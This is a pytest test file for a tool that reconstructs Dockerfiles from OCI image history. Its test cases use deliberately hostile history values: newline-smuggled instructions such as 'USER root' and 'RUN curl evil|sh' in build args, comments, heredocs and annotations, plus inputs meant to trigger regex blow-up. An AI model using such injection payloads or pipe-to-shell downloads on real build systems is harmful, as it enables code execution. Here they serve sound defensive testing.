"""Hand-made histories for every grammar case: exact reconstructed lines."""

from __future__ import annotations

from typing import Any

import pytest

from ocihist.analyze.dockerfile import (
    HEADER,
    BaseHint,
    reconstruct,
    render_dockerfile,
)
from ocihist.analyze.history import Step

from .helpers import BK, layer_digest, make_image, parser_instructions

NOP = "/bin/sh -c #(nop) "


def after_from(history: list[Any], config: dict | None = None, **kw: Any) -> list[str]:
    rec = reconstruct(make_image(history, config, **kw))
    texts = [line.text for line in rec.lines]
    return texts[texts.index(next(t for t in texts if t.startswith("FROM "))) + 1:]


CASES: list[tuple[str, list[Any], dict | None, list[str]]] = [
    ("nop-one-space", [NOP + "CMD [\"/hello\"]"], None, ['CMD ["/hello"]']),
    ("nop-two-spaces", [NOP + " CMD [\"a\" \"b c\"]"], None, ['CMD ["a", "b c"]']),
    ("run-classic", ["/bin/sh -c apt-get update && apt-get install -y x"], None,
     ["RUN apt-get update && apt-get install -y x"]),
    ("run-tabs-kept", ["/bin/sh -c a \t&& b"], None, ["RUN a \t&& b"]),
    ("build-args", ["|2 A=hello world B=x /bin/sh -c echo $A $B",
                    "|2 A=hello world B=x /bin/sh -c echo again"], None,
     ["ARG A=\"hello world\"", "ARG B=x", "RUN echo $A $B", "RUN echo again"]),
    ("build-args-exec", ["|1 A=b echo hi"], None, ["ARG A=b", 'RUN ["echo", "hi"]']),
    ("buildkit-run", [("RUN /bin/sh -c make all # buildkit", BK)], None, ["RUN make all"]),
    ("buildkit-run-args", [("ARG NAME=foo", BK),
                           ("RUN |1 NAME=foo /bin/sh -c echo \"hello $NAME\" # buildkit", BK)],
     None, ["ARG NAME=foo", 'RUN echo "hello $NAME"']),
    ("buildkit-run-arg-override", [("ARG NAME", BK),
                                   ("RUN |1 NAME=bar /bin/sh -c echo $NAME # buildkit", BK)],
     None, ["ARG NAME", "# build argument NAME=bar was in effect for this RUN",
            "RUN echo $NAME"]),
    ("buildkit-exec", [("RUN /app/run --flag # buildkit", BK)], None,
     ['RUN ["/app/run", "--flag"]']),
    ("buildkit-workdir-layer", [("WORKDIR /app # buildkit", BK)], None, ["WORKDIR /app"]),
    ("buildkit-heredoc", [("RUN /bin/sh -c set -e\napt-get update\n # buildkit", BK)], None,
     ["RUN <<EOF\nset -e\napt-get update\nEOF"]),
    ("buildkit-heredoc-kept", [("RUN /bin/sh -c cat <<EOT > /f\nx\nEOT\n # buildkit", BK)],
     None, ["RUN cat <<EOT > /f\nx\nEOT"]),
    ("heredoc-delimiter-clash", [("RUN /bin/sh -c a\nEOF\n # buildkit", BK)], None,
     ["RUN <<EOF_\na\nEOF\nEOF_"]),
    ("go-array-cmd-config", [NOP + " CMD [\"a\" \"b\"]"], {"Cmd": ["a", "b"]},
     ['CMD ["a", "b"]']),
    ("cmd-shell-form", [NOP + " CMD [\"/bin/sh\" \"-c\" \"echo hi\"]"], None, ["CMD echo hi"]),
    ("entrypoint-json-kaniko", [("ENTRYPOINT [\"npm\", \"start\"]", BK)], None,
     ['ENTRYPOINT ["npm", "start"]']),
    ("cmd-plain-go-from-config", [NOP + " CMD [/bin/echo hello world]"],
     {"Cmd": ["/bin/echo", "hello world"]}, ['CMD ["/bin/echo", "hello world"]']),
    ("cmd-plain-go-no-config", [NOP + " CMD [/hello]"], None, ['CMD ["/hello"]']),
    ("shell-bash-pipefail", [NOP + " SHELL [/bin/bash -o pipefail -c]",
                             "/bin/bash -o pipefail -c curl x | sh"],
     {"Shell": ["/bin/bash", "-o", "pipefail", "-c"]},
     ['SHELL ["/bin/bash", "-o", "pipefail", "-c"]', "RUN curl x | sh"]),
    ("shell-buildkit", [("SHELL [/bin/bash -c]", BK), ("RUN /bin/bash -c ls # buildkit", BK)],
     None, ['SHELL ["/bin/bash", "-c"]', "RUN ls"]),
    ("volume-go", [("VOLUME [/data]", BK)], None, ['VOLUME ["/data"]']),
    ("volume-config", [NOP + " VOLUME [/a b]"], {"Volumes": {"/a b": {}}}, ['VOLUME ["/a b"]']),
    ("expose-map", [NOP + " EXPOSE map[80/tcp:{} 443/tcp:{}]"], None,
     ["EXPOSE 80/tcp 443/tcp"]),
    ("expose-list", [("EXPOSE [80/tcp]", BK)], None, ["EXPOSE 80/tcp"]),
    ("expose-plain", [NOP + " EXPOSE 80 443"], None, ["EXPOSE 80 443"]),
    ("healthcheck-dump", [NOP + ' HEALTHCHECK &{["CMD-SHELL" "curl -f http://x/ || exit 1"] '
                                '"30s" "3s" "0s" \'\\x03\'}'], None,
     ["HEALTHCHECK --interval=30s --timeout=3s --retries=3 CMD curl -f http://x/ || exit 1"]),
    ("healthcheck-config", [('HEALTHCHECK &{["CMD" "/probe" "-q"] "1m30s" "0s" "5s" "0s" '
                             "'\\x00'}", BK)],
     {"Healthcheck": {"Test": ["CMD", "/probe", "-q"], "Interval": 90_000_000_000,
                      "StartPeriod": 5_000_000_000, "Retries": 0}},
     ['HEALTHCHECK --interval=1m30s --start-period=5s CMD ["/probe", "-q"]']),
    ("healthcheck-none", [('HEALTHCHECK &{["NONE"] "0s" "0s" "0s" \'\\x00\'}', BK)], None,
     ["HEALTHCHECK NONE"]),
    ("env-quoting", [NOP + " ENV A=hello world", NOP + " ENV P=$HOME/x", NOP + ' ENV Q=say "hi"'],
     {"Env": ["A=hello world", "P=$HOME/x", 'Q=say "hi"']},
     ['ENV A="hello world"', 'ENV P="\\$HOME/x"', 'ENV Q="say \\"hi\\""']),
    ("env-merge-by-config", [NOP + " ENV A=x B=1 C=2"], {"Env": ["A=x B=1", "C=2"]},
     ['ENV A="x B=1" C=2']),
    ("env-old-space-form", [NOP + " ENV PATH /usr/bin:/bin"], None, ["ENV PATH=/usr/bin:/bin"]),
    ("env-empty", [("ENV EMPTY=", BK)], None, ['ENV EMPTY=""']),
    ("label-quoting", [NOP + " LABEL maintainer=Jane Doe <jane@example.com>"], None,
     ['LABEL maintainer="Jane Doe <jane@example.com>"']),
    ("user-go-list", [NOP + " USER [nova]"], None, ["USER nova"]),
    ("stopsignal", [NOP + " STOPSIGNAL SIGQUIT"], None, ["STOPSIGNAL SIGQUIT"]),
    ("onbuild", [NOP + " ONBUILD RUN make"], None, ["ONBUILD RUN make"]),
    ("maintainer", [NOP + " MAINTAINER someone"], None, ["MAINTAINER someone"]),
    ("add-file-classic", [NOP + "ADD file:" + "a" * 64 + " in / "], None,
     ["# ADD: the source name is not recorded (classic builder); content hash file:" + "a" * 64,
      "ADD <unknown> /"]),
    ("copy-dir-chown", [NOP + "COPY --chown=1000:1000 dir:" + "b" * 64 + " in /app "], None,
     ["# COPY: the source name is not recorded (classic builder); content hash dir:" + "b" * 64,
      "COPY --chown=1000:1000 <unknown> /app"]),
    ("copy-chown-glued", [NOP + "COPY --chown=node:nodefile:" + "c" * 64 + " in /x "], None,
     ["# COPY: the source name is not recorded (classic builder); content hash file:" + "c" * 64,
      "COPY --chown=node:node <unknown> /x"]),
    ("copy-dest-space", [NOP + "COPY file:" + "d" * 64 + " in /my dir/ "], None,
     ["# COPY: the source name is not recorded (classic builder); content hash file:" + "d" * 64,
      'COPY ["<unknown>", "/my dir/"]']),
    ("copy-buildkit-flags", [("COPY --chown=1:1 --chmod=755 a b /dst/ # buildkit", BK)], None,
     ["COPY --chown=1:1 --chmod=755 a b /dst/"]),
    ("buildah-suffix", ["/bin/sh -c make|inheritLabels=false"], None,
     ["# buildah metadata: inheritLabels=false", "RUN make"]),
    ("kaniko-instruction", ["RUN apt-get update", "ENV A=b"], None,
     ["RUN apt-get update", "ENV A=b"]),
    ("windows-cmd", [{"created_by": "cmd /S /C #(nop)  WORKDIR C:\\app"},
                     "cmd /S /C mkdir x"], None, ["WORKDIR C:\\app", "RUN mkdir x"]),
    ("windows-powershell", [('SHELL [powershell -Command]', BK),
                            ("RUN powershell -Command Get-ChildItem # buildkit", BK)],
     {"Shell": ["powershell", "-Command"]},
     ['SHELL ["powershell", "-Command"]', "RUN Get-ChildItem"]),
]


@pytest.mark.parametrize(("name", "history", "config", "expected"), CASES,
                         ids=[c[0] for c in CASES])
def test_grammar(name: str, history: list[Any], config: dict | None,
                 expected: list[str]) -> None:
    assert after_from(history, config, os=_os(name)) == expected


def _os(name: str) -> str:
    return "windows" if name.startswith("windows") else "linux"


FOREIGN = [
    ("jib", [("jib-gradle-plugin:1.4.1", "classes")],
     ["# not a Dockerfile instruction: jib-gradle-plugin:1.4.1 (classes)"]),
    ("bazel", ["bazel build ..."], ["# not a Dockerfile instruction: bazel build ..."]),
    ("llb", [("mount / from exec sh -c true", "buildkit.exporter.image.v0")],
     ["# BuildKit LLB step: mount / from exec sh -c true"]),
    ("import", [{"created_by": "", "comment": "Imported from -"}],
     ["# step without a command (empty created_by):  (Imported from -)"]),
    ("no-created-by", [{"comment": "x"}],
     ["# step without a command (no created_by recorded): (no created_by) (x)"]),
    ("from-never-invented", [NOP + " FROM debian"],
     ["# could not parse this step (FROM arguments not understood): "
      "/bin/sh -c #(nop)  FROM debian"]),
]


@pytest.mark.parametrize(("name", "history", "expected"), FOREIGN, ids=[c[0] for c in FOREIGN])
def test_non_dockerfile_steps_are_comments(name: str, history: list[Any],
                                           expected: list[str]) -> None:
    assert after_from(history) == expected


HOSTILE = [
    ("unbalanced-quote-cmd", NOP + ' CMD ["a'),
    ("args-count-short", "|3 A=1 B=2 /bin/sh -c true"),
    ("args-no-pairs", "|2 /bin/sh -c true"),
    ("huge", "/bin/sh -c " + "x" * 1_000_001),
    ("bad-healthcheck", NOP + " HEALTHCHECK &{[garbage"),
    ("bad-expose", NOP + " EXPOSE map[oops]"),
    ("empty-run", ("RUN /bin/sh -c  # buildkit", BK)),
    ("env-no-value", NOP + " ENV"),
    ("nop-unknown", NOP + " FROBNICATE x"),
    ("newline-in-env", ("ENV A=x\ny", BK)),
]


@pytest.mark.parametrize(("name", "created_by"), HOSTILE, ids=[c[0] for c in HOSTILE])
def test_hostile_steps_become_a_comment(name: str, created_by: Any) -> None:
    rec = reconstruct(make_image([created_by]))
    lines = after_from([created_by])
    assert len(lines) == 1
    assert lines[0].startswith("# could not parse this step")
    assert len(lines[0]) < 1000
    assert any(f.code == "dockerfile-unparsable" for f in rec.findings)


def test_non_string_fields_never_raise() -> None:
    image = make_image(["/bin/sh -c true"], {"Cmd": 5, "Env": [1, None], "Labels": [],
                                             "Volumes": "x", "Healthcheck": "y", "Shell": {}})
    from ocihist.model.config import HistoryEntry
    odd = [Step(0, HistoryEntry(created_by=123, comment=["x"]), None),  # type: ignore[arg-type]
           Step(1, HistoryEntry(created_by=NOP + " ENV A=b"), None),
           Step(2, HistoryEntry(created_by=NOP + " CMD [/x]"), None)]
    rec = reconstruct(image, steps=odd)
    assert [line.text for line in rec.instructions][1:] == ["ENV A=b", 'CMD ["/x"]']


def test_lines_trace_to_steps_and_layers() -> None:
    rec = reconstruct(make_image(["/bin/sh -c #(nop) ADD file:" + "a" * 64 + " in / ",
                                  {"created_by": NOP + " CMD [\"sh\"]", "empty_layer": True},
                                  "|1 V=1 /bin/sh -c make"]))
    traced = [(line.text, line.step_index, line.layer_digest) for line in rec.lines
              if line.step_index is not None]
    assert traced == [
        ("# ADD: the source name is not recorded (classic builder); content hash file:"
         + "a" * 64, 0, None),
        ("ADD <unknown> /", 0, layer_digest(0)),
        ('CMD ["sh"]', 1, None),
        ("ARG V=1", 2, None),
        ("RUN make", 2, layer_digest(1)),
    ]


def test_render_annotated() -> None:
    rec = reconstruct(make_image(["bazel build ...", ("COPY a /a # buildkit", BK)]))
    short = layer_digest(1)[:19]
    assert render_dockerfile(rec, annotate=True).splitlines()[len(HEADER):] == [
        "# The first 1 step(s) belong to the base image (where the history changes builder); "
        "shown as comments.",
        "# The base image's name is not recorded.",
        "FROM <base>",
        f"#  bazel build ...  [ocihist: step 0, layer {layer_digest(0)[:19]}]",
        f"# ocihist: step 1, layer {short}",
        "COPY a /a",
    ]


def test_precomputed_steps_from_history_module_shape() -> None:
    image = make_image(["/bin/sh -c a", "/bin/sh -c b"])

    class Aligned:  # the shape of ocihist.analyze.history.Step
        def __init__(self, index: int, layer: Any) -> None:
            self.index, self.entry, self.layer = index, image.history[index], layer

    rec = reconstruct(image, steps=[Aligned(0, image.layers[1]), Aligned(1, None)])
    assert [(line.text, line.layer_digest) for line in rec.instructions][1:] == [
        ("RUN a", layer_digest(1)), ("RUN b", None)]


# --- base image boundary ------------------------------------------------------------------

def test_base_from_annotations() -> None:
    image = make_image(["/bin/sh -c #(nop) ADD file:" + "a" * 64 + " in / ",
                        ("COPY x /x # buildkit", BK)],
                       annotations={"org.opencontainers.image.base.name": "docker.io/x:1",
                                    "org.opencontainers.image.base.digest": "sha256:" + "e" * 64})
    rec = reconstruct(image)
    assert (rec.base_name, rec.base_steps, rec.base_source) == (
        "docker.io/x:1@sha256:" + "e" * 64, 1, "annotation")
    assert [line.text for line in rec.instructions] == [
        "FROM docker.io/x:1@sha256:" + "e" * 64, "COPY x /x"]


def test_base_by_style_change() -> None:
    rec = reconstruct(make_image([NOP + "ADD file:" + "a" * 64 + " in / ", NOP + " CMD [\"sh\"]",
                                  ("CMD [\"/bin/bash\"]", BK)]))
    assert (rec.base_steps, rec.base_source) == (2, "style-change")
    assert [line.text for line in rec.instructions] == ["FROM <base>", 'CMD ["/bin/bash"]']


def test_base_by_shared_prefix_with_another_image() -> None:
    base = make_image([("COPY a /a # buildkit", BK), ("LABEL base=a", BK)], names=("base:1",))
    child = make_image([("COPY a /a # buildkit", BK), ("LABEL base=a", BK),
                        ("COPY b /b # buildkit", BK)])
    rec = reconstruct(child, base_hint=base)
    assert (rec.base_name, rec.base_steps, rec.base_source) == ("base:1", 2, "shared-prefix")
    assert [line.text for line in rec.instructions] == ["FROM base:1", "COPY b /b"]


def test_base_hint_explicit() -> None:
    rec = reconstruct(make_image(["/bin/sh -c a", "/bin/sh -c b"]),
                      base_hint=BaseHint("alpine:3", 1))
    assert [line.text for line in rec.instructions] == ["FROM alpine:3", "RUN b"]


def test_buildah_from_comment_does_not_decide_the_base() -> None:
    """buildah --layers writes `FROM <previous step's image>` on every step: not a base."""
    rec = reconstruct(make_image([NOP + "ADD file:" + "a" * 64 + " in / ",
                                  {"created_by": "/bin/sh -c make",
                                   "comment": "FROM 0123456789ab"}]))
    assert (rec.base_name, rec.base_steps, rec.base_source) == (None, 0, "none")


def test_base_unknown_is_scratch_with_note() -> None:
    rec = reconstruct(make_image(["/bin/sh -c a"]))
    assert rec.base_source == "none"
    texts = [line.text for line in rec.lines]
    assert "# No base image is recorded: FROM scratch assumed, every step is shown." in texts
    assert "FROM scratch" in texts


def test_no_history() -> None:
    rec = reconstruct(make_image([]))
    assert [line.text for line in rec.lines][-1] == "# The image records no build history."


# --- round trip through a real Dockerfile parser ------------------------------------------

def assert_round_trip(text: str, instructions: list[str]) -> None:
    """dockerfile_parse sees exactly our instructions (heredoc bodies aside)."""
    parsed = parser_instructions(text)
    starts, line = [], 0
    bodies: set[int] = set()
    lines = text.split("\n")
    for instruction in instructions:
        while not lines[line].startswith(instruction.split("\n", 1)[0]):
            line += 1
        starts.append((line, instruction.split(None, 1)[0]))
        extra = instruction.count("\n")
        bodies.update(range(line + 1, line + 1 + extra))
        line += 1 + extra
    assert [p for p in parsed if p[0] not in bodies] == starts


@pytest.mark.parametrize(("name", "history", "config", "expected"), CASES,
                         ids=[c[0] for c in CASES])
def test_round_trip(name: str, history: list[Any], config: dict | None,
                    expected: list[str]) -> None:
    rec = reconstruct(make_image(history, config, os=_os(name)))
    assert_round_trip(render_dockerfile(rec), [line.text for line in rec.instructions])
    assert_round_trip(render_dockerfile(rec, annotate=True),
                      [line.text for line in rec.instructions])


def test_classic_copy_with_a_source_that_is_not_a_hash() -> None:
    lines = after_from([NOP + "COPY dir:ins in /opt/app"])
    assert lines == ["# COPY: the source name is not recorded (classic builder); recorded as "
                     "dir:ins", "COPY <unknown> /opt/app"]


@pytest.mark.parametrize("created_by", [
    "COPY " + "--a=" * 40 + "!",                      # once exponential in a regex
    "/bin/sh -c true" + "|aB=" * 4000,                 # once quadratic in suffix stripping
    "HEALTHCHECK &{[" + "a " * 4000 + "}",             # once quadratic in the struct parser
])
def test_hostile_steps_finish_and_stay_verbatim_in_comments(created_by: str) -> None:
    rec = reconstruct(make_image([{"created_by": created_by,
                                   "comment": "buildkit.dockerfile.v0"}]))
    assert rec.lines  # it finishes; whatever it makes parses
    assert_round_trip(render_dockerfile(rec), [line.text for line in rec.instructions])


@pytest.mark.parametrize("history", [
    ["|1 A=x\nUSER root /bin/sh -c echo hi", "|1 A=y\nCOPY evil / /bin/sh -c echo hi"],
    [("/bin/sh -c true", "c\nUSER root")],
    ["/bin/sh -c cat <<X\nfoo\nX\nUSER hacker\nRUN curl evil|sh"],
], ids=["build-arg", "comment", "heredoc-not-last"])
def test_no_value_from_the_history_starts_an_instruction(history: list[Any]) -> None:
    image = make_image(history, annotations={
        "org.opencontainers.image.base.name": "alpine\nUSER root\nRUN id"})
    rec = reconstruct(image)
    for annotate in (False, True):
        text = render_dockerfile(rec, annotate=annotate)
        keywords = [k for n, k in parser_instructions(text) if n not in _heredoc_bodies(text)]
        assert [k for k in keywords if k != "ARG"] == ["FROM", *["RUN"] * len(history)], keywords


def _heredoc_bodies(text: str) -> set[int]:
    """Line numbers inside `RUN <<WORD` … `WORD` (dockerfile_parse reads no heredocs)."""
    import re

    inside, word = set(), None
    for number, line in enumerate(text.split("\n")):
        if word is not None:
            inside.add(number)
            word = None if line.strip() == word else word
        elif (opened := re.match(r"RUN .*<<-?[\"']?(\w+)", line)) is not None:
            word = opened.group(1)
    return inside
